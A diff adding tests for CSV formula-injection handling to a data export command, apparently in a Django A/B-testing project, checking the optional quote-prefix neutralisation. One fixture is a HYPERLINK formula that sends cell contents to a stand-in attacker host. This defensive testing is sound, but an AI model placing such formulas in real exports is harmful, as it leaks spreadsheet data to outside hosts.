@@ -143,6 +143,58 @@ def test_export__awkward_subject_ids__jsonl_reads_back_exactly(checkout):
     assert all(list(obj) == HEADER and obj["cohort"] == 1 for obj in objects)
 
 
+# Subject IDs a spreadsheet would run as formulas, and their spreadsheet-safe cells (OWASP's prefix).
+FORMULA_SUBJECT_IDS = {
+    '=HYPERLINK("https://evil.example/?"&A1,"x")': '\'=HYPERLINK("https://evil.example/?"&A1,"x")',
+    "+1": "'+1",
+    "-2": "'-2",
+    "@SUM(A1)": "'@SUM(A1)",
+    "a=b": "a=b",
+    "plain": "plain",
+}
+
+
+def test_export__formula_subject_ids_without_spreadsheet_safe__exact(checkout):
+    for index, subject_id in enumerate(FORMULA_SUBJECT_IDS):
+        AssignmentFactory(experiment=checkout, subject_id=subject_id, created_at=T0 + dt.timedelta(seconds=index))
+
+    stdout, _ = export("--experiment", "checkout-button")
+
+    assert [row[1] for row in csv_rows(stdout)[1:]] == list(FORMULA_SUBJECT_IDS)
+
+
+def test_export__formula_subject_ids_with_spreadsheet_safe__prefixed_with_a_quote_and_the_rest_exact(checkout):
+    for index, subject_id in enumerate(FORMULA_SUBJECT_IDS):
+        AssignmentFactory(experiment=checkout, subject_id=subject_id, created_at=T0 + dt.timedelta(seconds=index))
+
+    safe, _ = export("--experiment", "checkout-button", "--spreadsheet-safe")
+    exact, _ = export("--experiment", "checkout-button")
+
+    rows = csv_rows(safe)
+    assert rows[0] == HEADER
+    assert [row[1] for row in rows[1:]] == list(FORMULA_SUBJECT_IDS.values())
+    assert [row[:1] + row[2:] for row in rows] == [row[:1] + row[2:] for row in csv_rows(exact)]
+
+
+def test_export__spreadsheet_safe_with_jsonl__refused_as_a_bad_option_and_no_output(checkout):
+    AssignmentFactory(experiment=checkout, subject_id="=1+1")
+    stdout = io.StringIO()
+
+    with pytest.raises(CommandError, match="--spreadsheet-safe applies to --format csv only") as refused:
+        call_command(
+            "export_assignments",
+            "--experiment",
+            "checkout-button",
+            "--format",
+            "jsonl",
+            "--spreadsheet-safe",
+            stdout=stdout,
+        )
+
+    assert refused.value.returncode == 2
+    assert stdout.getvalue() == ""
+
+
 def test_export__same_timestamp__ordered_by_insertion(checkout):
     # Given a batch stored with one timestamp, as the API stores a request's new subjects
     Assignment.objects.bulk_create(
